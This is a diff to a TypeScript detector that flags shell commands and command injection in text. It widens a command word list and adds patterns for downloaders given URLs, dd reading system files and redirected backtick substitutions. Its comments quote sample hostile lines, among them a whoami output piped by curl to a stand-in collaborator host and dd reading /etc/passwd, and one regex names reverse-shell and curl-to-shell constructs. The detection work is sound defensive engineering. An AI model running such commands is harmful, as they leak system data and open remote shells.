@@ -21,13 +21,17 @@ const COMMANDS = new Set(
     'systemctl service iptables nmap masscan msfconsole msfvenom certreq expand findstr icacls cacls attrib wevtutil vssadmin bcdedit ntdsutil runas query quser qwinsta ' +
     'whoami.exe cmd.exe powershell.exe net.exe net1 ipconfig.exe systeminfo.exe nc.exe ncat.exe wget.exe curl.exe certutil.exe mshta.exe ' +
     'visudo lastlog htop aptitude apt apt-get yum dnf rpm dpkg ansible ansible-playbook ansible-galaxy ansible-vault ansible-config ansible-doc irb strace ltrace gdb vim ' +
-    'nano tclsh bcdboot regedit iwr iex ssh-copy-id rmt lsmod lscpu nproc vmstat lsblk lsof lspci lsusb dmesg iostat mpstat sestatus getenforce start-sleep'
+    'nano tclsh bcdboot regedit iwr iex ssh-copy-id rmt lsmod lscpu nproc vmstat lsblk lsof lspci lsusb dmesg iostat mpstat sestatus getenforce start-sleep ' +
+    // (twenty-fifth round) process and service probes, mail and database admin tools, archive readers
+    'printf pgrep pidof nstat mailq mysqladmin mysqldump pg_dump bzcat zcat gzcat xzcat bzless zless'
   ).split(' '),
 )
 /** Commands that are also English words: they need a shell's arguments, not prose, after them. */
 const ENGLISH = new Set(['column', 'fold', 'comm', 'rev', 'vi', 'ex', 'tr', 'more', 'less', 'head', 'tail', 'find', 'set', 'type', 'file', 'stat', 'env', 'echo', 'sleep', 'kill', 'top', 'free', 'last', 'who', 'w', 'at', 'make', 'touch', 'date', 'time', 'exit', 'id', 'host', 'sort', 'cut', 'wc', 'diff', 'ping', 'fetch', 'expand', 'query', 'halt', 'route', 'groups', 'tee', 'service', 'expr', 'eval', 'exec', 'test', 'true', 'false', 'print', 'start', 'call', 'copy', 'del', 'move', 'ren', 'cd', 'mail', 'read', 'wait', 'trap', 'source', 'yes', 'man', 'cal', 'df', 'du', 'mount', 'watch', 'net', 'which', 'whereis', 'dir', 'ver', 'vol', 'file', 'reg', 'sc'])
 // interpreters that are also names (Ruby Keeling, Ash Dash): arguments needed too
 for (const w of ['ruby', 'perl', 'python', 'java', 'node', 'lua', 'dash', 'ash', 'php', 'bash', 'tee', 'mysql', 'finger', 'nice', 'su']) ENGLISH.add(w)
+// (a C or Perl call, `; printf("…")`, is no command line: printf needs a shell's arguments too)
+ENGLISH.add('printf')
 for (const w of ENGLISH) COMMANDS.add(w)
 /**
  * (json22) Interpreters and runtimes a product's name pairs with its version (`Azure Functions & Java 11`, `Flask & Python 3.12`): after a
@@ -114,7 +118,8 @@ function commandAt(v: string, i: number, weak: boolean, listedOnly = false): boo
     const next = afterWrapper(v, k)
     if (next !== -1 && wrappedCommand(v, next)) return true
   }
-  const hasArgument = k > j && k < v.length && shellArgument(v, k)
+  // (twenty-fifth round) a downloader given a URL (`whoami | curl https://collab.example -d@-`): its argument
+  const hasArgument = k > j && k < v.length && (shellArgument(v, k) || (DOWNLOADERS.has(word) && DOWNLOAD_URL.test(v.slice(k, k + 9))))
   const ends = commandEnds(v, k)
   // the shell's no-ops run nothing and read nothing (a TypeScript union's `| false | undefined`); nor does an echo of an
   // empty string, a script's way to ignore a failure (`svelte-kit sync || echo ''`; fifteenth round)
@@ -216,6 +221,8 @@ export function someCapture(re: RegExp, v: string, test: (captured: string) => b
 }
 
 const NETWORK_PROBES = new Set(['ping', 'nslookup', 'host', 'dig'])
+const DOWNLOADERS = new Set(['curl', 'wget', 'curl.exe', 'wget.exe'])
+const DOWNLOAD_URL = /^(?:https?|ftp):\/\/\w/
 /** An empty string and the end of the command (`echo ''`, `echo ""`). */
 const EMPTY_ECHO = /^(?:''|"")[ \t]{0,4}(?:$|[;|&)\n])/
 const MARKER = /^[a-z0-9]{1,30}_[a-z0-9_]{1,40}[ \t]{0,4}|^[a-z]{3,8}\d{2,8}[ \t]{0,4}/
@@ -526,8 +533,9 @@ function pathCommand(program: string, rest: string): boolean {
 const PROGRAM_PATH = /^\/(?:usr\/(?:local\/)?)?s?bin\/[a-z][\w.-]{0,30}$/
 
 /** Listing and reading programs: a command line on their own only when aimed at the system's files. */
-const READERS = new Set(['ls', 'dir', 'cat', 'type', 'more', 'head', 'tail', 'tac', 'nl', 'find', 'stat'])
-const READS_SYSTEM = /^(?:\s+-{1,2}[\w-]+)*\s+(?:\/(?:(?:etc|proc|tmp|var|home|root|usr|bin|opt|dev|sys|boot)\b|\s|$)|[a-z]:[\\/]|%\w+%)/
+const READERS = new Set(['ls', 'dir', 'cat', 'type', 'more', 'head', 'tail', 'tac', 'nl', 'find', 'stat', 'dd'])
+// (twenty-fifth round: dd's input file, `dd if=/etc/passwd of=/tmp/x`)
+const READS_SYSTEM = /^(?:\s+-{1,2}[\w-]+)*\s+(?:if=)?(?:\/(?:(?:etc|proc|tmp|var|home|root|usr|bin|opt|dev|sys|boot)\b|\s|$)|[a-z]:[\\/]|%\w+%)/
 
 function bareArguments(line: string): boolean {
   const words = line.split(/[ \t]+/)
@@ -581,6 +589,8 @@ function commandLines(text: string): boolean {
   }
   return true
 }
+/** blanks, then a redirection of output or a pipe, then a file or a program */
+const OUTPUT_REDIRECTED = /^[ \t]{1,4}(?:>{1,2}|\|)[ \t]{0,4}[\w/.~$]/
 const SUBSTITUTION_NEIGHBOUR = new Set([...'abcdefghijklmnopqrstuvwxyz0123456789_=;|&$\'"'].map((c) => c.charCodeAt(0)))
 
 /** Where the separator of an injected command is, or -1. */
@@ -664,7 +674,8 @@ function injectionAt(v: string, fenced: boolean, nested = false): number {
         const blank = close !== -1 && spanHasBlank(v, i, close)
         const before = i > 0 && (SUBSTITUTION_NEIGHBOUR.has(v.charCodeAt(i - 1)) || (v.charCodeAt(i - 1) === 46 && v.charCodeAt(i - 2) === 96 && (blank || spanHasBlank(v, v.lastIndexOf('`', i - 3), i - 2))))
         const after = close !== -1 && close < n - 1 && (SUBSTITUTION_NEIGHBOUR.has(v.charCodeAt(close + 1)) || (v.charCodeAt(close + 1) === 46 && v.charCodeAt(close + 2) === 96 && (blank || spanHasBlank(v, close + 2, v.indexOf('`', close + 3)))))
-        if ((before || after || (i === 0 && (close === -1 || close === n - 1))) && commandAt(v, i + 1, false)) return i
+        // (twenty-fifth round: or opening the value, its output redirected or piped, `` `id` > /tmp/out.txt ``)
+        if ((before || after || (i === 0 && (close === -1 || close === n - 1 || OUTPUT_REDIRECTED.test(v.slice(close + 1, close + 8))))) && commandAt(v, i + 1, false)) return i
         // (twenty-third round) commands on lines of their own inside the backticks (`` print(`echo a\necho $((1+2))`) ``): no code span of
         // prose breaks its line there; each line after a break is a command
         // (not a Markdown fence's, ```` ``` ````, whose lines are a listing; nor a template literal assigned in code, `const help = \`Usage:…`)
@@ -911,4 +922,4 @@ const PROGRAM_LINE = /^[ \t]{0,40}(?:\[\[[ \t][^\n]{0,280}[ \t]\]\][ \t]{0,4}(?:
 // (seventeenth round) a timing oracle: a test whose two branches only sleep, for different times (`then sleep 0; else sleep 5`)
 export const PROGRAM_ATTACK = /\bthen[ \t]{1,4}sleep[ \t]{1,4}\d{1,3}[ \t]{0,4}[;\n][ \t]{0,8}else[ \t]{1,4}sleep[ \t]{1,4}\d{1,3}\b|\/dev\/(?:tcp|udp)\/|\b(?:nc|ncat|netcat)[ \t][^\n]{0,100}?[ \t]-[a-z]{0,3}[ec]\b|\bmkfifo\b[^\n]{0,100}?\b(?:nc|ncat|netcat|telnet)\b|\bsocat\b[^\n]{0,100}?\bexec:|\b(?:curl|wget|fetch)\b[^\n|]{0,300}\|[ \t]{0,4}(?:sudo[ \t]{1,4})?(?:ba|z|da|k|c|tc|fi)?sh\b/
 /** The shell judge's patterns, for the ReDoS checks. */
-export const SHELL_PATTERNS: readonly RegExp[] = [ANSI_C_WORD, LEADING_SUBSHELLS, VERSION_ONLY, SHORT_TOKEN, TRAILING_COMMENT, GLUED_INPUT, ...Object.values(RUNS_NEXT), BRACE_PROGRAM, IFS_BLANK, IFS_BLANKS, WORD_BREAKS, HOST_NAME, APPENDED, APPENDED_SUBSTITUTION, SENTENCE, TRAILING_SEPARATOR, ONLY_OPTIONS, CD_CHAIN, ACCESSOR, NO_OPS, QUOTE_SPLIT, SEPARATOR, GLOB_PATH, GLOB_CHAR, STAR_SEGMENT, CMD_VARIABLE, PROGRAM_PATH, BLOCK_PARAMETERS, BATCH, BATCH_CODE, MAIL_COMMAND, PROGRAM_LINE, PROGRAM_CONTROL, PROGRAM_ATTACK, SHEBANG, INDENTED, CLOSING, MARKER, EMPTY_ECHO, HOST_ARGUMENT, TYPOGRAPHIC_OPTION, ESCAPE_INTRODUCERS, PLUS_BLANK, PLUSES, BRACE_LIST, SHELL_TOKEN, READS_SYSTEM]
+export const SHELL_PATTERNS: readonly RegExp[] = [OUTPUT_REDIRECTED, DOWNLOAD_URL, ANSI_C_WORD, LEADING_SUBSHELLS, VERSION_ONLY, SHORT_TOKEN, TRAILING_COMMENT, GLUED_INPUT, ...Object.values(RUNS_NEXT), BRACE_PROGRAM, IFS_BLANK, IFS_BLANKS, WORD_BREAKS, HOST_NAME, APPENDED, APPENDED_SUBSTITUTION, SENTENCE, TRAILING_SEPARATOR, ONLY_OPTIONS, CD_CHAIN, ACCESSOR, NO_OPS, QUOTE_SPLIT, SEPARATOR, GLOB_PATH, GLOB_CHAR, STAR_SEGMENT, CMD_VARIABLE, PROGRAM_PATH, BLOCK_PARAMETERS, BATCH, BATCH_CODE, MAIL_COMMAND, PROGRAM_LINE, PROGRAM_CONTROL, PROGRAM_ATTACK, SHEBANG, INDENTED, CLOSING, MARKER, EMPTY_ECHO, HOST_ARGUMENT, TYPOGRAPHIC_OPTION, ESCAPE_INTRODUCERS, PLUS_BLANK, PLUSES, BRACE_LIST, SHELL_TOKEN, READS_SYSTEM]
